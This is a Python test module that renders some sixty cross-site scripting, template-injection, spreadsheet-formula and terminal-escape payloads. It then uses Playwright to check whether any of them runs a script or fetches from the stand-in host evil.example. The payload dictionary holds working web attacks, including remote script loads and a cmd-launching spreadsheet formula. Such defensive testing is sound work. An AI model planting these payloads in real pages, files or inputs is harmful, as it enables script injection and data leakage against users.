"""Texts that run as a script, fetch something or change a page wherever they are not treated as text, one for each known way.

The ways are those that OWASP's cheat sheet on cross-site scripting and the HTML standard name; the texts were written down for these
tests (from memory, no list copied). Each calls `pwned()` or asks a made-up host for something.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Any

from playwright.sync_api import Error

HOST = "evil.example"

INJECTIONS = {
    "a script": "<script>pwned()</script>",
    "a script that closes an attribute": '"><script>pwned()</script>',
    "a script that closes a single quote": "'><script>pwned()</script>",
    "a script from elsewhere": f"<script src=https://{HOST}/x.js></script>",
    "a script that closes the style": "</style><script>pwned()</script>",
    "a script that closes the title": "</title><script>pwned()</script>",
    "a script that closes a text area": "</textarea></noscript></template></select><script>pwned()</script>",
    "a script behind a comment": "<!--><script>pwned()</script>-->",
    "a script behind character data": "]]><script>pwned()</script><![CDATA[",
    "a script with a null byte": "<scr\x00ipt>pwned()</scr\x00ipt><script>pwned()</script>",
    "a script over several lines": "<script\r\n>\npwned()\n</script\t>",
    "a script in a code span": "`<script>pwned()</script>`",
    "a script behind a fence": "```\n</code></pre><script>pwned()</script>\n```",
    "a script turned round": "\u202e<script>pwned()</script>\u202c",
    "a script between line separators": "\u2028<script>pwned()</script>\u2029",
    "a script in entities": "&lt;script&gt;pwned()&lt;/script&gt;",
    "a script in numbers": "&#60;script&#62;pwned()&#x3c;/script&#x3e;",
    "a script in UTF-7": "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "a script in full-width signs": "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "a script in a data address": "<object data='data:text/html,<script>parent.pwned()</script>'></object>",
    "an image that fails": "<img src=x onerror=pwned()>",
    "an image from elsewhere": f'<img src="https://{HOST}/x.png">',
    "an event of its own": "<b onmouseover=pwned() onpointerenter=pwned()>x</b>",
    "an event that closes an attribute": '" onmouseover="pwned()" autofocus onfocus="pwned()" x="',
    "an event that closes a single quote": "' onmouseover='pwned()' x='",
    "an event without quotes": "x onfocus=pwned() autofocus tabindex=1",
    "a focus": "<input autofocus onfocus=pwned()>",
    "details that open": "<details open ontoggle=pwned()>x</details>",
    "a film that fails": "<video><source onerror=pwned()></video><audio src=x onerror=pwned()>",
    "an animation": "<style>@keyframes k{}</style><x style='animation:k' onanimationstart=pwned()>",
    "a drawing that loads": "<svg onload=pwned()></svg>",
    "a drawing that moves": "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
    "a drawing with HTML in it": "<svg><foreignObject><iframe src='javascript:parent.pwned()'></iframe></foreignObject></svg>",
    "a drawing with a script": "<svg><script>pwned()</script></svg>",
    "a formula that leads away": "<math><maction actiontype='statusline' xlink:href='javascript:pwned()'>x</maction></math>",
    "a formula that changes how the rest is read": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
    "a frame": "<iframe src='javascript:parent.pwned()'></iframe>",
    "a frame with a page in it": "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "a link that runs": '<a href="javascript:pwned()">x</a>',
    "a link of Markdown that runs": "[x](javascript:pwned())",
    "a picture of Markdown": f"![x](https://{HOST}/x.png)",
    "a reference of Markdown": f"![x][y]\n\n[y]: https://{HOST}/x.png",
    "an address in angle brackets": f"<https://{HOST}>",
    "a formula of TeX with a link": "$\\href{javascript:pwned()}{x}$ \\(\\unicode{x3c}\\)",
    "a style from elsewhere": f"<link rel=stylesheet href=https://{HOST}/x.css>",
    "a style that fetches": f"</style><style>@import 'https://{HOST}/x.css';*{{background:url(https://{HOST}/x)}}</style>",
    "a style in an attribute": f"<b style='background:url(https://{HOST}/x)'>x</b>",
    "a style alone": f"; background: url(https://{HOST}/x); x: ",
    "a new address for everything": f"<base href=https://{HOST}/>",
    "a page that moves on": f"<meta http-equiv=refresh content='0;url=https://{HOST}/'>",
    "a form": f"<form action=https://{HOST}/><button formaction='javascript:pwned()'>x</button></form>",
    "a template of curly brackets": "{{constructor.constructor('pwned()')()}}",
    "a template of dollars": "${pwned()}",
    "a template of per cents": "<%= pwned() %>{% import os %}{# #}",
    "a place-holder of ours": "{sack.mass} %s %(x)s {0.__class__}",
    "all at once": "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+pwned()//'>",
    "a formula of a spreadsheet": f'=HYPERLINK("https://{HOST}","x")',
    "another formula of a spreadsheet": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a terminal's own": "\x1b]0;pwned\x07\x1b[2J\x9b31m",
}

PWNED = "window.pwned = () => { window.top.wasPwned = true; };"
SECURITY = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')
TOUCHED_AND_FOUND = """async () => {
  for (const one of document.querySelectorAll('*')) { one.dispatchEvent(new MouseEvent('mouseover')); one.focus?.(); }
  await new Promise((go) => requestAnimationFrame(() => setTimeout(go, 0)));
  return [...(window.top.wasPwned ? ['a script ran'] : []), ...[...document.querySelectorAll('*')].flatMap((one) => [
  ...(['script', 'iframe', 'object', 'embed', 'base', 'link', 'form', 'foreignobject', 'maction', 'mglyph', 'video', 'audio', 'x', 'animate',
       'details', 'template'].includes(one.localName.toLowerCase()) && !(one.matches('details.folded') && one.attributes.length === 1) ? [one.outerHTML.slice(0, 120)] : []),
  ...[...one.attributes].filter(({name, value}) => /^on/i.test(name) || /javascript:/i.test(value) && name !== 'alt' && name !== 'title'
      && name !== 'aria-label' && name !== 'content' || /evil\\.example/.test(value) && /href|src|style|action|data$/i.test(name))
    .map(({name, value}) => `${one.localName} ${name}=${value}`.slice(0, 120))])]; }"""


@dataclass
class Watch:
    """What pages asked for and did. Use `look` for each page."""

    page: Any
    asked: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.add_init_script(PWNED)
        self.page.on("dialog", lambda dialog: (self.asked.append(f"dialog {dialog.message}"), dialog.dismiss()))
        self.page.context.route("**", self._refuse)

    def _refuse(self, route: Any) -> None:
        url = route.request.url
        if url.startswith("https://pages.test/"):
            route.fulfill(content_type="text/html; charset=utf-8", body=self._html)
        else:
            self.asked.append(url)
            route.abort()

    def look(self, html: str, name: str) -> list[str]:
        """Open a page as it is, and again without the rule that forbids scripts, so that both fences are tried. Returns what was
        wrong: elements and attributes that a text made, scripts that ran, requests that went out."""
        wrong: list[str] = []
        for text in (html, SECURITY.sub("", html)):
            self._html = text
            self.page.goto("https://pages.test/page.html")
            try:
                wrong += [f"{name}: {what}" for what in self.page.evaluate(TOUCHED_AND_FOUND)]
            except Error as error:  # the page led itself elsewhere in the meantime
                wrong.append(f"{name}: {error.message.splitlines()[0]}")
        wrong += [f"{name}: {what}" for what in self.asked if what != "https://pages.test/favicon.ico"]
        self.asked.clear()
        return wrong
